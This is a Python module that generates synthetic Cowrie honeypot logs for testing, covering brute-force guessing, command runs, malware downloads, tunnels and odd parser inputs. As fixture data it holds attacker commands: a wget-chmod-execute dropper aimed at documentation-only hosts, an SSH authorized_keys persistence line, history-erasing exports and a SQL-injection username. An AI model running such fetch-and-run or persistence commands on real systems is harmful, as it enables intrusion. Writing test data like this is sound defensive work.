"""What attackers do in synthetic logs: sessions of several kinds, event by event, as Cowrie 2.9 writes them.

Belongs here: the kinds of sessions and their shares, the words attackers use, and the JSON of each event.
Does not belong here: when sessions begin and which file they go to (synthetic.py), addresses (synthetic_networks.py).

Lines are put together from pieces that are JSON already, because most of a line is the same in all of a session or an
address's events. All words are made up by hand; hosts in URLs and tunnels are those reserved for documentation
(RFC 2606, RFC 5737).
"""

import base64
import hashlib
import json
import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import date
from itertools import accumulate

__all__ = ["MICROSECONDS_A_DAY", "Event", "Sensor", "SessionMaker"]

# Microseconds since 1970-01-01 UTC, event id, and the line with its newline. Sorts by time.
Event = tuple[int, str, str]

MICROSECONDS_A_DAY = 86_400_000_000

_EPOCH_ORDINAL = date(1970, 1, 1).toordinal()
_CLOCK = tuple(f"{s // 3600:02d}:{s // 60 % 60:02d}:{s % 60:02d}" for s in range(86_400))


@dataclass(frozen=True, slots=True)
class Sensor:
    """A honeypot: its name, the id of its installation, and the private address it listens on."""

    name: str
    uuid: str
    address: str


@dataclass(frozen=True, slots=True)
class _Client:
    """An SSH client as the wire shows it: the JSON fields of its `client.version` and `client.kex` events."""

    version: str
    kex: str


# What Cowrie's log and the words below have in common: names, passwords and commands made up by hand.
_USERNAMES = (
    *("root", "root", "root", "root", "admin", "admin", "user", "test", "deploy", "backup", "builder", "printer"),
    *("librarian", "kiosk", "camera", "warehouse", "telemetry", "intern", "gamehost", "mirror", "svc-web", "svc-db"),
)
_PASSWORD_WORDS = (
    *("teapot", "umbrella", "Giraffe", "lemonade", "snowball", "harbour", "Firefly", "pancake", "velvet", "octopus"),
    *("cinnamon", "Juniper", "saucer", "walnut", "bicycle", "Thunder", "pebbles", "lantern", "meadow", "zeppelin"),
)
_PASSWORD_ENDINGS = ("", "1", "12", "123", "!", "@2024", "2025", "#1", "_01", "987", "!!", "qq", ".x")
# What parsers, databases and terminals stumble over. PostgreSQL's text cannot hold the NULs.
_ODD_CREDENTIALS = (
    ("", ""),
    ("root", ""),
    ("", "nobody"),
    ("ro\x00ot", "pass\x00word"),
    ("admin\x00", "\x00\x00\x00"),
    ("käyttäjä", "salasanä"),
    ("用户", "密码茶壶"),
    ("пользователь", "чайник1"),  # noqa: RUF001 - Cyrillic is the point
    ("root", "🫖☂️"),
    ('quo"te', "back\\slash'"),
    ("a\tb", "\x1b[31mred\x1b[0m"),
    ("GET / HTTP/1.1", "Host: www.example.com"),
    ("root'; DROP TABLE session_summaries; --", "1"),
    ("longname" * 40, "p" * 1_200),
)
_ODD_CREDENTIALS_SHARE = 0.004
_CREDENTIALS = 3_000

_COMMANDS = (
    "uname -s -v -n -r -m",
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m | awk 'NR==2 {print $2}'",
    'echo "probe-ok"',
    "whoami && id -u; hostname",
    "ls -la /opt /srv 2>/dev/null",
    "w | head -n 2\nuptime\nlast -n 3",
    'for f in /etc/*release; do echo "== $f"; cat "$f"; done',
    "crontab -l | grep -v '^#'",
    "export HISTFILE=/dev/null; unset HISTSIZE",
    "df -h / | tail -n 1",
    "ps aux --sort=-%cpu | head -n 5",
    "cd ~ && mkdir -p .cache/.teapot && echo 'ssh-ed25519 AAAAmadeup kettle@example' >> .ssh/authorized_keys",
    "printf 'a\\tb\\n' > /tmp/.q; cat /tmp/.q; rm -f /tmp/.q",
    "#!/bin/sh\nset -e\narch=$(uname -m)\nif [ \"$arch\" = 'mips' ]; then\n  echo 'no'\nelse\n  echo \"$arch\"\nfi\n",
    "echo -e 'café ☕' > /tmp/menu",
)
_UNKNOWN_COMMANDS = ("nvidia-smi -q", "lsblkk", "kettle --boil", "systemctl2 status", "./xx86", "apt-gett update", "?")
_HUMAN_COMMANDS = ("ls", "pwd", "cd /var/www", "cat notes.txt", "ls -la", "cd ..", "sudo su", "history", "exit")
_URL_HOSTS = ("files.example.net", "cdn.example.org", "192.0.2.77", "198.51.100.9", "203.0.113.140", "dl.example.com")
_BINARIES = ("teapot.sh", "kettle.x86", "kettle.arm7", "kettle.mips", "run.sh", "update", "sshd2", "i.py")
_TUNNEL_TARGETS = (
    ("www.example.com", 80),
    ("www.example.com", 443),
    ("api.example.net", 443),
    ("mail.example.org", 25),
    ("shop.example.com", 443),
    ("192.0.2.15", 80),
    ("198.51.100.23", 443),
    ("203.0.113.8", 25),
)
_ARCHITECTURES = ("linux-x64-lsb", "linux-arm-lsb", "linux-mips-msb")
_TERMINALS = ((80, 24), (120, 30), (190, 53), (211, 47))
_VARIABLES = (("LANG", "en_US.UTF-8"), ("LANG", "C.UTF-8"), ("LC_ALL", "pt_BR.UTF-8"), ("TERM_PROGRAM", 'a"b'))
_GARBAGE_VERSIONS = ("", "GET / HTTP/1.1", "b'\\x16\\x03\\x01\\x00\\xee\\x01\\x00\\x00\\xea\\x03\\x03'", "\\x00\\x9c|")

# Software version, then key exchange, ciphers, MACs and compression as HASSH joins them.
_CLIENTS: tuple[tuple[str, str, str, str, str], ...] = (
    (
        "SSH-2.0-Go",
        "curve25519-sha256,ecdh-sha2-nistp256,diffie-hellman-group14-sha256",
        "aes128-gcm@openssh.com,chacha20-poly1305@openssh.com,aes128-ctr",
        "hmac-sha2-256-etm@openssh.com,hmac-sha2-256",
        "none",
    ),
    (
        "SSH-2.0-Go",
        "curve25519-sha256@libssh.org,ecdh-sha2-nistp256,diffie-hellman-group14-sha1",
        "aes128-ctr,aes192-ctr,aes256-ctr",
        "hmac-sha2-256,hmac-sha1,hmac-sha1-96",
        "none",
    ),
    (
        "SSH-2.0-libssh_0.9.6",
        "curve25519-sha256,ecdh-sha2-nistp256,diffie-hellman-group16-sha512",
        "aes256-gcm@openssh.com,aes256-ctr,aes128-ctr",
        "hmac-sha2-256-etm@openssh.com,hmac-sha2-512",
        "none",
    ),
    (
        "SSH-2.0-libssh_0.11.1",
        "curve25519-sha256,ecdh-sha2-nistp521,ext-info-c,kex-strict-c-v00@openssh.com",
        "chacha20-poly1305@openssh.com,aes256-gcm@openssh.com",
        "hmac-sha2-256-etm@openssh.com",
        "none,zlib@openssh.com",
    ),
    (
        "SSH-2.0-libssh2_1.10.0",
        "diffie-hellman-group-exchange-sha256,diffie-hellman-group14-sha1",
        "aes128-ctr,aes256-ctr,3des-cbc",
        "hmac-sha2-256,hmac-sha1,hmac-md5",
        "none",
    ),
    (
        "SSH-2.0-paramiko_3.4.0",
        "curve25519-sha256@libssh.org,ecdh-sha2-nistp384,diffie-hellman-group16-sha512",
        "aes128-ctr,aes192-ctr,aes256-cbc",
        "hmac-sha2-512,hmac-sha2-256",
        "none",
    ),
    (
        "SSH-2.0-OpenSSH_8.9p1",
        "sntrup761x25519-sha512@openssh.com,curve25519-sha256,ext-info-c",
        "chacha20-poly1305@openssh.com,aes128-ctr",
        "umac-64-etm@openssh.com,hmac-sha2-256",
        "none,zlib@openssh.com,zlib",
    ),
    (
        "SSH-2.0-PuTTY_Release_0.78",
        "curve448-sha512,curve25519-sha256,diffie-hellman-group18-sha512",
        "aes256-ctr,chacha20-poly1305@openssh.com",
        "hmac-sha2-256,hmac-sha1",
        "none,zlib",
    ),
)
_CLIENT_WEIGHTS = tuple(accumulate((34, 14, 9, 10, 12, 8, 9, 4)))
_KEY_ALGORITHMS = ["ssh-ed25519", "ecdsa-sha2-nistp256", "rsa-sha2-512", "ssh-rsa"]

_TELNET_SHARE = 0.05
_UNKNOWN_EVENT_SHARE = 0.0004
_PAYLOADS = 400


class SessionMaker:
    """Makes sessions: picks what happens, and writes it down.

    What it picks from (credentials, payloads, each address's client) follows from `seed` alone; what it picks, from
    the generator handed to `make`. So any session can be made without those before it.
    """

    def __init__(self, seed: int, addresses: Sequence[str]) -> None:
        rng = random.Random(f"{seed}/sessions")  # noqa: S311 - repeatable test data, no secret
        self._addresses = addresses
        self._clients = [_client_events(*client) for client in _CLIENTS]
        self._client_of = rng.choices(range(len(_CLIENTS)), cum_weights=_CLIENT_WEIGHTS, k=len(addresses))
        self._credentials = [_credential_fields(*pair) for pair in _make_credentials(rng)]
        self._odd_credentials = [_credential_fields(*pair) for pair in _ODD_CREDENTIALS]
        self._commands = [_command_fields(command) for command in _COMMANDS]
        self._unknown_commands = [_command_fields(command) for command in _UNKNOWN_COMMANDS]
        self._human_commands = [_command_fields(command) for command in _HUMAN_COMMANDS]
        self._payloads = [f"{rng.getrandbits(256):064x}" for _ in range(_PAYLOADS)]
        self._garbage_versions = [_version_fields(version) for version in _GARBAGE_VERSIONS]

    def make(self, rng: random.Random, sensor: Sensor, address_index: int, start: int) -> list[Event]:
        """Make one session of any kind, in time order; `start` is in microseconds since 1970-01-01 UTC."""
        telnet = rng.random() < _TELNET_SHARE
        kinds, weights = (_TELNET_KINDS, _TELNET_WEIGHTS) if telnet else (_SSH_KINDS, _SSH_WEIGHTS)
        kind = rng.choices(kinds, cum_weights=weights)[0]
        return self._play(kind, rng, sensor, address_index, start, telnet=telnet)

    def make_visit(self, rng: random.Random, sensor: Sensor, address_index: int, start: int) -> list[Event]:
        """Make a session of a human at a keyboard, which takes no less than half a minute."""
        return self._play(_visit, rng, sensor, address_index, start, telnet=False)

    def _play(
        self,
        kind: "Callable[[_Script], None]",
        rng: random.Random,
        sensor: Sensor,
        address_index: int,
        start: int,
        *,
        telnet: bool,
    ) -> list[Event]:
        client = self._clients[self._client_of[address_index]]
        address = self._addresses[address_index]
        script = _Script(self, rng, sensor=sensor, address=address, client=client, start=start, telnet=telnet)
        kind(script)
        return script.events

    def credentials(self, rng: random.Random) -> tuple[str, str]:
        """Return the JSON fields of one attempt: as it fails, and as it succeeds."""
        if rng.random() < _ODD_CREDENTIALS_SHARE:
            return rng.choice(self._odd_credentials)
        # Squared: the first of the list are tried far more often, as the same few lists are everywhere.
        return self._credentials[int(rng.random() ** 2 * _CREDENTIALS)]

    def command(self, rng: random.Random) -> tuple[str, str]:
        """Return the JSON fields of a command that Cowrie knows: of its input, and of its failure."""
        return rng.choice(self._commands)

    def unknown_command(self, rng: random.Random) -> tuple[str, str]:
        """Return the JSON fields of a command that Cowrie does not know."""
        return rng.choice(self._unknown_commands)

    def human_command(self, rng: random.Random) -> tuple[str, str]:
        """Return the JSON fields of a command as people type it."""
        return rng.choice(self._human_commands)

    def payload(self, rng: random.Random) -> str:
        """Return the SHA-256 of a file; some are met again and again."""
        return self._payloads[int(rng.random() ** 2 * _PAYLOADS)]

    def garbage_version(self, rng: random.Random) -> str:
        """Return the JSON fields of a `client.version` from something that does not speak SSH."""
        return rng.choice(self._garbage_versions)


class _Script:
    """One session while it is being written: its clock, its identity, and the events so far."""

    def __init__(
        self,
        maker: SessionMaker,
        rng: random.Random,
        *,
        sensor: Sensor,
        address: str,
        client: _Client,
        start: int,
        telnet: bool,
    ) -> None:
        protocol = "telnet" if telnet else "ssh"
        self.maker = maker
        self.rng = rng
        self.client = client
        self.telnet = telnet
        self.address = address
        self.start = start
        self.now = start
        self.events: list[Event] = []
        self.session = f"{rng.getrandbits(48):012x}"
        self._before_time = f'"sensor":"{sensor.name}","uuid":"{sensor.uuid}","timestamp":"'
        self._identity = f'","src_ip":"{address}","session":"{self.session}","protocol":"{protocol}"}}\n'
        self._identity_without_address = f'","session":"{self.session}","protocol":"{protocol}"}}\n'
        source_port = rng.randrange(1_024, 65_536)
        port = 2_223 if telnet else 2_222
        self._write(
            "cowrie.session.connect",
            f'"src_ip":"{address}","src_port":{source_port},"dst_ip":"{sensor.address}","dst_port":{port},'
            f'"session":"{self.session}","protocol":"{protocol}","message":"New connection: {address}:{source_port} '
            f'({sensor.address}:{port}) [session: {self.session}]",',
            '"}\n',
        )

    def wait(self, mean_seconds: float) -> None:
        """Let a random time pass, `mean_seconds` on average."""
        self.now += int(self.rng.expovariate(1.0) * mean_seconds * 1_000_000)

    def emit(self, event_id: str, fields: str) -> None:
        """Write an event; `fields` are its own ones as JSON, each with its comma behind it."""
        self._write(event_id, fields, self._identity)

    def emit_with_own_address(self, event_id: str, fields: str) -> None:
        """Write an event whose fields have `src_ip` already: Cowrie leaves it where the event brought it."""
        self._write(event_id, fields, self._identity_without_address)

    def _write(self, event_id: str, fields: str, ending: str) -> None:
        # No two events of a session share a microsecond, so that sorting by time keeps their order.
        self.now += 1 + int(self.rng.random() * 900)
        days, rest = divmod(self.now, MICROSECONDS_A_DAY)
        second, microsecond = divmod(rest, 1_000_000)
        day = _iso_day(days)
        line = f'{{"eventid":"{event_id}",{fields}{self._before_time}{day}T{_CLOCK[second]}.{microsecond:06d}Z{ending}'
        self.events.append((self.now, event_id, line))

    def greet(self) -> None:
        """Exchange versions and algorithms, which Telnet does not have."""
        if self.telnet:
            self.wait(0.5)
            return
        self.wait(0.1)
        self.emit("cowrie.client.version", self.client.version)
        self.wait(0.2)
        self.emit("cowrie.client.kex", self.client.kex)

    def fail_to_log_in(self, attempts: int) -> None:
        for _ in range(attempts):
            self.wait(0.9)
            self.emit("cowrie.login.failed", self.maker.credentials(self.rng)[0])

    def log_in(self) -> None:
        self.wait(0.8)
        self.emit("cowrie.login.success", self.maker.credentials(self.rng)[1])

    def offer_key(self) -> None:
        """Try a public key, which Cowrie refuses with a failed login that has no password."""
        blob = b"\x00\x00\x00\x0bssh-ed25519\x00\x00\x00\x20" + self.rng.randbytes(32)
        digest = hashlib.md5(blob, usedforsecurity=False).hexdigest()
        fingerprint = ":".join(digest[i : i + 2] for i in range(0, 32, 2))
        key = (
            f'"fingerprint":"{fingerprint}","key":"ssh-ed25519 {base64.b64encode(blob).decode()}","type":"ssh-ed25519",'
        )
        self.wait(0.5)
        self.emit(
            "cowrie.client.fingerprint",
            f'"username":"root",{key}"message":"public key attempt for user root of type ssh-ed25519 with '
            f'fingerprint {fingerprint}",',
        )
        self.emit(
            "cowrie.login.failed",
            f'"username":"root",{key}"message":"public key login attempt for [root] failed",',
        )

    def open_shell(self) -> None:
        self.wait(0.3)
        architecture = _ARCHITECTURES[int(self.rng.random() ** 3 * len(_ARCHITECTURES))]
        self.emit("cowrie.session.params", f'"arch":"{architecture}","message":[],')

    def run(self, command: tuple[str, str], *, known: bool, pause: float) -> None:
        self.wait(pause)
        self.emit("cowrie.command.input", command[0])
        if not known:
            self.emit("cowrie.command.failed", command[1])

    def close_shell(self, opened_at: int) -> None:
        self.wait(0.4)
        seconds = f"{(self.now - opened_at) / 1e6:.1f}"
        shasum = self.maker.payload(self.rng)
        path = f"var/lib/cowrie/tty/{shasum}"
        self.emit(
            "cowrie.log.closed",
            f'"ttylog":"{path}","size":{self.rng.randrange(40, 9_000)},"shasum":"{shasum}",'
            f'"duplicate":{"true" if self.rng.random() < 0.6 else "false"},"duration":"{seconds}",'
            f'"message":"Closing TTY Log: {path} after {seconds} seconds",',
        )

    def close(self, mean_seconds: float = 0.3) -> None:
        self.wait(mean_seconds)
        if self.rng.random() < _UNKNOWN_EVENT_SHARE:
            self.emit("cowrie.synthetic.note", '"note":"an event id of no release","message":"Note",')
        seconds = f"{(self.now - self.start) / 1e6:.1f}"
        self.emit(
            "cowrie.session.closed", f'"duration":"{seconds}","message":"Connection lost after {seconds} seconds",'
        )


def _probe(script: _Script) -> None:
    """A port scan: some hang up at once, some wait until Cowrie does after two minutes."""
    if script.rng.random() < 0.1:
        script.now += 120_000_000
    script.close()


def _look_at_banner(script: _Script) -> None:
    script.wait(0.2)
    odd = script.rng.random() < 0.15
    script.emit("cowrie.client.version", script.maker.garbage_version(script.rng) if odd else script.client.version)
    script.close(0.8)


def _shake_hands(script: _Script) -> None:
    script.greet()
    script.close(1.0)


def _guess(script: _Script) -> None:
    """Guess passwords: most once a connection, some until they are thrown out."""
    script.greet()
    if not script.telnet and script.rng.random() < 0.02:
        script.offer_key()
    draw = script.rng.random()
    script.fail_to_log_in(1 if draw < 0.5 else 2 if draw < 0.7 else 3 if draw < 0.9 else 6)
    script.close()


def _check_credentials(script: _Script) -> None:
    """Find that a password works, and sell it instead of using it."""
    script.greet()
    script.log_in()
    script.close()


def _execute(script: _Script) -> None:
    """Run a few commands each in a shell of its own, as `ssh host command` does."""
    _break_in(script)
    for _ in range(1 + int(script.rng.expovariate(1.4))):
        script.open_shell()
        opened_at = script.now
        script.run(script.maker.command(script.rng), known=True, pause=0.2)
        if script.rng.random() < 0.15:
            script.run(script.maker.unknown_command(script.rng), known=False, pause=0.1)
        script.close_shell(opened_at)
    script.close()


def _drop_malware(script: _Script) -> None:
    """Fetch a file and start it, by script."""
    rng = script.rng
    _break_in(script)
    script.open_shell()
    opened_at = script.now
    for _ in range(rng.randrange(2, 6)):
        script.run(script.maker.command(rng), known=True, pause=1.0)
    for _ in range(rng.randrange(1, 3)):
        binary = rng.choice(_BINARIES)
        url = f"http://{rng.choice(_URL_HOSTS)}/{rng.choice(('b', 'bins', 'd/2'))}/{binary}"
        script.run(
            _command_fields(f"cd /tmp || cd /var/run; wget -q {url} -O {binary}; chmod 755 {binary}; ./{binary} ssh"),
            known=True,
            pause=1.0,
        )
        script.wait(2.0)
        if rng.random() < 0.15:
            script.emit(
                "cowrie.session.file_download.failed",
                f'"url":"{url}","message":"Attempt to download file(s) from URL ({url}) failed",',
            )
        else:
            shasum = script.maker.payload(rng)
            outfile = f"var/lib/cowrie/downloads/{shasum}"
            script.emit(
                "cowrie.session.file_download",
                f'"url":"{url}","outfile":"{outfile}","shasum":"{shasum}","message":"Downloaded URL ({url}) with '
                f'SHA-256 {shasum} to {outfile}",',
            )
        script.run(_command_fields(f"./{binary}"), known=False, pause=0.2)
    script.close_shell(opened_at)
    script.close()


def _upload(script: _Script) -> None:
    """Bring a file along by SFTP."""
    _break_in(script)
    for _ in range(script.rng.randrange(1, 4)):
        script.wait(3.0)
        shasum = script.maker.payload(script.rng)
        outfile = f"var/lib/cowrie/downloads/{shasum}"
        name = script.rng.choice(_BINARIES)
        script.emit(
            "cowrie.session.file_upload",
            f'"filename":"{name}","outfile":"{outfile}","shasum":"{shasum}",'
            f'"message":"SFTP Uploaded file \\"{name}\\" to {outfile}",',
        )
    script.close()


def _tunnel(script: _Script) -> None:
    """Send traffic through the honeypot, for minutes or hours."""
    rng = script.rng
    _break_in(script)
    for number in range(1 + int(rng.expovariate(0.33))):
        host, port = rng.choice(_TUNNEL_TARGETS)
        script.wait(rng.choice((1.0, 5.0, 400.0)))
        origin_port = rng.randrange(1_024, 65_536)
        script.emit_with_own_address(
            "cowrie.direct-tcpip.request",
            f'"dst_ip":"{host}","dst_port":{port},"src_ip":"{script.address}","src_port":{origin_port},'
            f'"message":"direct-tcp connection request to {host}:{port} from 127.0.0.1:{origin_port}",',
        )
        if rng.random() < 0.8:
            script.wait(0.2)
            data = _tunnel_data(rng, host, port)
            message = f"discarded direct-tcp forward request {number} to {host}:{port} with data {data}"
            script.emit(
                "cowrie.direct-tcpip.data",
                f'"dst_ip":"{host}","dst_port":{port},"data":{json.dumps(data)},"id":{number},'
                f'"message":{json.dumps(message)},',
            )
    script.close(1.0)


def _visit(script: _Script) -> None:
    """A human at a keyboard: a terminal, typing errors, pauses, and half a minute at least."""
    rng = script.rng
    _break_in(script)
    width, height = rng.choice(_TERMINALS)
    name, value = rng.choice(_VARIABLES)
    script.emit("cowrie.client.size", f'"width":{width},"height":{height},"message":"Terminal Size: {width} {height}",')
    message = json.dumps(f"request_env: {name}={value}")
    script.emit("cowrie.client.var", f'"name":"{name}","value":{json.dumps(value)},"message":{message},')
    script.open_shell()
    opened_at = script.now
    for _ in range(rng.randrange(5, 16)):
        if rng.random() < 0.25:
            script.run(script.maker.unknown_command(rng), known=False, pause=6.0)
        else:
            script.run(script.maker.human_command(rng), known=True, pause=6.0)
    script.now += 30_000_000
    script.close_shell(opened_at)
    script.close(20.0)


def _break_in(script: _Script) -> None:
    """Guess until it works, which is at the first attempt more often than not."""
    script.greet()
    script.fail_to_log_in(int(script.rng.expovariate(2.0)))
    script.log_in()


# Shares in percent. With them a session has about 6.7 events, so that 150,000 sessions are 1,000,000 events.
_SSH_SHARES: tuple[tuple[Callable[[_Script], None], float], ...] = (
    (_probe, 9),
    (_look_at_banner, 7),
    (_shake_hands, 8),
    (_guess, 40),
    (_check_credentials, 5),
    (_execute, 23),
    (_drop_malware, 3),
    (_upload, 1),
    (_tunnel, 3),
    (_visit, 1),
)
_TELNET_SHARES: tuple[tuple[Callable[[_Script], None], float], ...] = (
    (_probe, 25),
    (_guess, 50),
    (_execute, 15),
    (_drop_malware, 10),
)
_SSH_KINDS = tuple(kind for kind, _ in _SSH_SHARES)
_SSH_WEIGHTS = tuple(accumulate(share for _, share in _SSH_SHARES))
_TELNET_KINDS = tuple(kind for kind, _ in _TELNET_SHARES)
_TELNET_WEIGHTS = tuple(accumulate(share for _, share in _TELNET_SHARES))


def _make_credentials(rng: random.Random) -> list[tuple[str, str]]:
    credentials = []
    for _ in range(_CREDENTIALS):
        username = rng.choice(_USERNAMES)
        word = username if rng.random() < 0.2 else rng.choice(_PASSWORD_WORDS)
        credentials.append((username, word + rng.choice(_PASSWORD_ENDINGS)))
    return credentials


def _credential_fields(username: str, password: str) -> tuple[str, str]:
    pair = f'"username":{json.dumps(username)},"password":{json.dumps(password)},'
    failed = json.dumps(f"login attempt [{username}/{password}] failed")
    succeeded = json.dumps(f"login attempt [{username}/{password}] succeeded")
    return f'{pair}"message":{failed},', f'{pair}"message":{succeeded},'


def _command_fields(command: str) -> tuple[str, str]:
    text = json.dumps(command)
    # Behind its opening quote the message goes on as the input does.
    return (
        f'"input":{text},"message":"CMD: {text[1:]},',
        f'"input":{text},"message":"Command not found: {text[1:]},',
    )


def _version_fields(version: str) -> str:
    text = json.dumps(version)
    return f'"version":{text},"message":"Remote SSH version: {text[1:]},'


def _client_events(version: str, key_exchange: str, ciphers: str, macs: str, compression: str) -> _Client:
    algorithms = f"{key_exchange};{ciphers};{macs};{compression}"
    # HASSH is defined as this MD5 (github.com/salesforce/hassh).
    hassh = hashlib.md5(algorithms.encode(), usedforsecurity=False).hexdigest()
    fields = {
        "hassh": hassh,
        "hasshAlgorithms": algorithms,
        "kexAlgs": key_exchange.split(","),
        "keyAlgs": _KEY_ALGORITHMS,
        "encCS": ciphers.split(","),
        "macCS": macs.split(","),
        "compCS": compression.split(","),
        "langCS": [""],
        "message": f"SSH client hassh fingerprint: {hassh}",
    }
    return _Client(_version_fields(version), json.dumps(fields, separators=(",", ":"))[1:-1] + ",")


def _tunnel_data(rng: random.Random, host: str, port: int) -> str:
    """Return what is sent first to such a port, as the Python literal that Cowrie logs."""
    if port == 443:
        return repr(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + rng.randbytes(48) + host.encode())
    if port == 25:
        return repr(b"EHLO kettle.example\r\n")
    return repr(f"GET /{rng.getrandbits(24):x} HTTP/1.1\r\nHost: {host}\r\nAccept: */*\r\n\r\n".encode())


_day_texts: dict[int, str] = {}


def _iso_day(days: int) -> str:
    """Return the date `days` after 1970-01-01, as in a timestamp; remembered, as it is asked for each event."""
    text = _day_texts.get(days)
    if text is None:
        text = _day_texts[days] = date.fromordinal(_EPOCH_ORDINAL + days).isoformat()
    return text
